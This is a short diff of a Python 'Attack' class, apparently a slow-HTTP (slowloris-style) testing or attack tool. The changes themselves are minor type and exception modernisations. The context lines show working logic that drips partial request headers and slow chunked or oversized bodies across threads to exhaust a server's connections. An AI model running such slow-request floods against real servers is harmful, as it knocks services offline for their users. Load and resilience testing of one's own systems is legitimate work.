@@ -56,10 +56,10 @@ class Attack:
     _threads: list[threading.Thread] = field(default_factory=list)
     _lock: threading.Lock = field(default_factory=threading.Lock)
 
-    def start(self) -> "Attack":
+    def start(self) -> Attack:
         head = f"POST {self.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{self.headers}"
         jobs: list[tuple[str, Any, tuple[Any, ...]]] = []
-        jobs += [("slow headers", self._drip, ("GET / HTTP/1.1\r\nHost: x\r\nX-Pad: ".encode(), b"a"))] * self.slow_headers
+        jobs += [("slow headers", self._drip, (b"GET / HTTP/1.1\r\nHost: x\r\nX-Pad: ", b"a"))] * self.slow_headers
         for i in range(self.slow_bodies):
             framing = "Transfer-Encoding: chunked\r\n\r\n" if i % 2 else "Content-Length: 100000\r\n\r\n"
             jobs.append(("slow body", self._drip, ((head + framing).encode(), b"1\r\n{\r\n" if i % 2 else b"{")))
@@ -111,12 +111,12 @@ class Attack:
         while not self._stop.is_set() and time.monotonic() < deadline:
             try:
                 return sock.recv(4096), True  # an answer, or b"": closed
-            except socket.timeout:
+            except TimeoutError:
                 pass
             if piece:
                 try:
                     sock.sendall(piece)
-                except socket.timeout:  # the server reads no more: look for its answer
+                except TimeoutError:  # the server reads no more: look for its answer
                     pass
             self._stop.wait(every)
         return b"", False
